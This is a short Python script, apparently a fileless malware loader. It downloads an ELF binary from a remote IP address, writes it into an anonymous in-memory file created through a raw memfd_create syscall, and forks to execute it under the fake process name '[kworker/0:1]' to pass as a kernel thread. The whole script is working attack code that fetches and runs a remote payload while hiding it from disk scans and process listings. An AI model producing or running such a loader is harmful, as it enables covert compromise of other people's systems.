# runs a fetched program without it ever being on disk
import ctypes
import os
import urllib.request

payload = urllib.request.urlopen("http://198.51.100.60/elf").read()
libc = ctypes.CDLL(None)
fd = libc.syscall(319, b"kworker", 1)
os.write(fd, payload)
if os.fork() == 0:
    os.execve(f"/proc/self/fd/{fd}", ["[kworker/0:1]"], dict(os.environ))
